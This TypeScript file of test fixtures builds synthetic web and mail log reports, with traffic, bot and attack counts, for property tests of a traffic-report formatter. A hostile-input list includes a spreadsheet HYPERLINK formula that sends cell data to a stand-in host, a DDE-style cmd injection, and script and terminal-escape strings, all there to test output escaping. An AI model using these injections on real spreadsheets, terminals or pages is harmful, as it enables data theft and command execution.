// Figures of traffic: a web log and a mail log as they are, and any figures at all, with texts of strangers that would break out of a
// report, numbers nobody counts to and times no calendar has.

import fc from 'fast-check'
import type { Figures, ShownTable, Sums } from '../src/traffic/figures.ts'
import { formatTraffic, type TrafficReport } from '../src/traffic/report/report.ts'
import { type CountKey, isCountKey, measures } from '../src/traffic/tally.ts'
import { textTables } from '../src/traffic/visitors.ts'
import { hostile, hostileText } from './site-report-arbitrary.ts'

export const firstDay = 20_604
const none: Omit<Sums, 'at'> = {
  ...{ requests: 0, bytes: 0, refused: 0, failed: 0, bots: 0, attacks: 0 },
  ...{ mailsSent: 0, mailsTaken: 0, mailsRejected: 0, signInsFailed: 0 },
}

/** A hill over the day, less at the end of the week. */
const requestsAt = (hour: number): number =>
  Math.round(
    (20 + 300 * Math.max(0, Math.sin((((hour % 24) - 6) / 17) * Math.PI))) *
      (Math.floor(hour / 24) % 7 > 4 ? 0.4 : 1),
  )

const webHours = (days: number): readonly Sums[] =>
  Array.from({ length: days * 24 }, (_, at) => {
    const requests = requestsAt(at)
    return {
      ...{
        ...none,
        at: firstDay * 24 + at,
        requests,
        bytes: requests * 21_437,
        bots: Math.round(requests * 0.22),
      },
      ...{
        refused: Math.round(requests * 0.06),
        failed: at % 31 === 0 ? 4 : 0,
        attacks: at % 17 === 0 ? 9 : 0,
      },
    }
  })

const cells = (texts: readonly string[], most: number): ShownTable['cells'] =>
  texts.map((text, at) => ({
    ...{ text, hits: Math.round(most / (at + 1)), bytes: Math.round((most / (at + 1)) * 18_211) },
    visitors: Math.round(most / (at + 1) / 3),
  }))

const table = (name: ShownTable['table'], texts: readonly string[], most = 4_000, k = 1): ShownTable => ({
  ...{ table: name, cells: cells(texts, most), rest: k > 1 ? { texts: 20, hits: 317 } : null, k },
})

const webCounts = new Map<CountKey, number>([
  ...([
    ['requests', 23_412],
    ['bytes', 501_883_044],
    ['lines', 23_500],
    ['unread', 61],
    ['aside', 12],
  ] as const),
  ...([
    ['status/200', 20_104],
    ['status/304', 1_411],
    ['status/301', 322],
    ['status/404', 1_502],
    ['status/500', 73],
  ] as const),
  ...([
    ['method/GET', 22_901],
    ['method/POST', 402],
    ['method/HEAD', 109],
  ] as const),
  ...([
    ['bot/search', 2_904],
    ['bot/ai', 1_602],
    ['bot/scanner', 211],
    ['bot/behaviour', 434],
  ] as const),
  ...([
    ['ai/GPTBot', 902],
    ['ai/ClaudeBot', 511],
    ['ai/PerplexityBot', 102],
    ['ai/other', 87],
  ] as const),
  ...([
    ['attack/probe', 214],
    ['attack/injection', 31],
    ['attack/traversal', 12],
  ] as const),
  ...([
    ['timed', 23_412],
    ['time-sum', 1_404_720],
    ['time/10', 9_004],
    ['time/25', 6_102],
    ['time/50', 4_000],
  ] as const),
  ...([
    ['time/100', 2_306],
    ['time/250', 1_400],
    ['time/1000', 500],
    ['time/above', 100],
  ] as const),
])

export const webFigures = (days = 7): Figures => ({
  ...{
    from: firstDay * 24,
    to: (firstDay + days) * 24 - 1,
    step: 'hour',
    steps: webHours(days),
    counts: webCounts,
  },
  lost: table('lost', ['/wp-login.php', '/.env', '/gammel-side', '/billeder/logo-2019.png'], 700),
  visitors: {
    days: Array.from({ length: days }, (_, at) => {
      const low = at % 7 > 4 ? 212 : 604 + at * 37
      const high = at === 3 ? low + 96 : low
      return {
        ...{ day: firstDay + at, low, high, isExact: at !== 1, bots: 61 + at, views: low * 4 },
        ...{ because: at === 3 ? ('restarted' as const) : null, isClosed: at !== days - 1 },
      }
    }),
    byHour: Array.from({ length: 24 }, (_, hour) => requestsAt(hour)),
    tables: [
      table('page', [
        '/',
        '/ydelser',
        '/om-os',
        '/kontakt',
        '/artikler/sikker-drift-af-mindre-systemer',
        '/privatlivspolitik',
      ]),
      table(
        'referrer',
        ['https://www.google.com', 'https://www.linkedin.com', 'https://duckduckgo.com'],
        900,
      ),
      table('country', ['DK', 'SE', 'DE', 'US'], 3_000),
      table('browser', ['Chrome', 'Safari', 'Firefox', 'Edge', 'other'], 3_000),
      table('system', ['Windows', 'iOS', 'macOS', 'Android', 'Linux'], 3_000),
    ],
  },
})

export const webReport = (days = 7): TrafficReport => ({
  ...{ kind: 'traffic-report', name: 'access.log', lines: 23_500, unread: 61, formats: ['combined'] },
  figures: webFigures(days),
})

const mailHours: readonly Sums[] = Array.from({ length: 24 }, (_, at) => ({
  ...{
    ...none,
    at: firstDay * 24 + at,
    mailsSent: 4 + (at % 7),
    mailsTaken: 11 + (at % 5),
    mailsRejected: at % 9,
  },
  ...{ signInsFailed: at % 6 === 0 ? 31 : 2, attacks: at % 6 === 0 ? 31 : 2 },
}))

const mailCounts = new Map<CountKey, number>([
  ...([
    ['queued', 302],
    ['queued-bytes', 18_204_551],
    ['lines', 9_104],
    ['delivery/sent-outside', 171],
  ] as const),
  ...([
    ['delivery/sent-mailbox', 240],
    ['delivery/bounced-outside', 7],
    ['delivery/deferred-outside', 12],
  ] as const),
  ...([
    ['bounced/5.1.1', 5],
    ['bounced/5.7.1', 2],
    ['deferred/4.4.1', 12],
    ['rejected/blocklist', 61],
  ] as const),
  ...([
    ['rejected/relay', 14],
    ['greyed/greylisted', 22],
    ['connected/in', 420],
    ['encrypted/in-1.3', 380],
  ] as const),
  ...([
    ['encrypted/in-1.2', 21],
    ['connected/out', 180],
    ['encrypted/out-1.3', 174],
    ['delay/1', 300],
    ['delay/30', 91],
  ] as const),
  ...([
    ['sign-in/imap-accepted', 812],
    ['sign-in/smtp-failed', 160],
    ['sign-in/smtp-unknown-user', 121],
  ] as const),
  ...([
    ['oddity/smtp-not-smtp', 9],
    ['attack/password-mail', 160],
    ['attack/relay', 14],
  ] as const),
])

const noTable: ShownTable = { table: 'lost', cells: [], rest: null, k: 1 }

export const mailReport: TrafficReport = {
  ...{ kind: 'traffic-report', name: 'mail.log', lines: 9_104, unread: 0, formats: ['postfix', 'dovecot'] },
  figures: {
    ...{ from: firstDay * 24, to: firstDay * 24 + 23, step: 'hour', steps: mailHours, counts: mailCounts },
    ...{ lost: noTable, visitors: null },
  },
}

/** What a spreadsheet, a terminal and a browser would each act on. */
export const strangersTexts: readonly string[] = [
  ...hostile,
  '=HYPERLINK("https://evil.test/?x="&A1,"se her")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '"a","b"\r\n=1',
  '/שלום/עולם/123',
  '漢字'.repeat(80),
  `/${'a'.repeat(10_000)}`,
]
const strangersText = fc.oneof(fc.constantFrom(...strangersTexts), hostileText)

/** The web log with every text a stranger's. */
export const hostileReport: TrafficReport = {
  ...webReport(1),
  name: '<script>alert(1)</script>\u001b[2J\u202e.log',
  formats: ['=1+1', '<b>'],
  figures: {
    ...webFigures(1),
    lost: table('lost', strangersTexts),
    visitors: {
      ...(webFigures(1).visitors ?? { days: [], byHour: [] }),
      tables: textTables.filter(name => name !== 'lost').map(name => table(name, strangersTexts)),
    },
  },
}

const keys = Object.entries(measures).flatMap(([measure, list]) =>
  list === 'dsn'
    ? [`${measure}/5.1.1`]
    : list.length === 0
      ? [measure]
      : list.map(detail => `${measure}/${detail}`),
)
const key = fc.constantFrom(...keys.filter(isCountKey))
const number = fc.oneof(fc.nat(5_000), fc.constantFrom(0, 1, Number.MAX_SAFE_INTEGER, 1e300, 5e-324))
const hour = fc.oneof(fc.nat(1_000_000), fc.constantFrom(-1, 0, 1e15, -1e300, 0.5))
const anyTable = (name: ShownTable['table']): fc.Arbitrary<ShownTable> =>
  fc.record({
    table: fc.constant(name),
    cells: fc.array(fc.record({ text: strangersText, hits: number, bytes: number, visitors: number }), {
      maxLength: 6,
    }),
    rest: fc.option(fc.record({ texts: number, hits: number })),
    k: fc.integer({ min: 1, max: 20 }),
  })
const anySums = fc.record({
  ...{
    at: hour,
    requests: number,
    bytes: number,
    refused: number,
    failed: number,
    bots: number,
    attacks: number,
  },
  ...{ mailsSent: number, mailsTaken: number, mailsRejected: number, signInsFailed: number },
})
const anyDay = fc.record({
  ...{ day: hour, low: number, high: number, isExact: fc.boolean(), bots: number, views: number },
  ...{
    because: fc.constantFrom(null, 'restarted', 'several-counters', 'late-lines'),
    isClosed: fc.boolean(),
  },
})
const anyFigures: fc.Arbitrary<Figures> = fc.record({
  ...{
    from: hour,
    to: hour,
    step: fc.constantFrom('hour', 'day'),
    steps: fc.array(anySums, { maxLength: 90 }),
  },
  counts: fc.array(fc.tuple(key, number), { maxLength: 60 }).map(all => new Map(all)),
  lost: anyTable('lost'),
  visitors: fc.option(
    fc.record({
      days: fc.array(anyDay, { maxLength: 70 }),
      byHour: fc.array(number, { minLength: 24, maxLength: 24 }),
      tables: fc.tuple(...textTables.filter(name => name !== 'lost').map(anyTable)),
    }),
  ),
})

export const anyReport: fc.Arbitrary<TrafficReport> = fc.record({
  ...{ kind: fc.constant('traffic-report' as const), name: strangersText, lines: number, unread: number },
  ...{ formats: fc.array(strangersText, { maxLength: 3 }), figures: anyFigures },
})

export const htmlOf = (report: TrafficReport, language: 'da' | 'en' = 'da'): string =>
  formatTraffic(report, 'html', language)
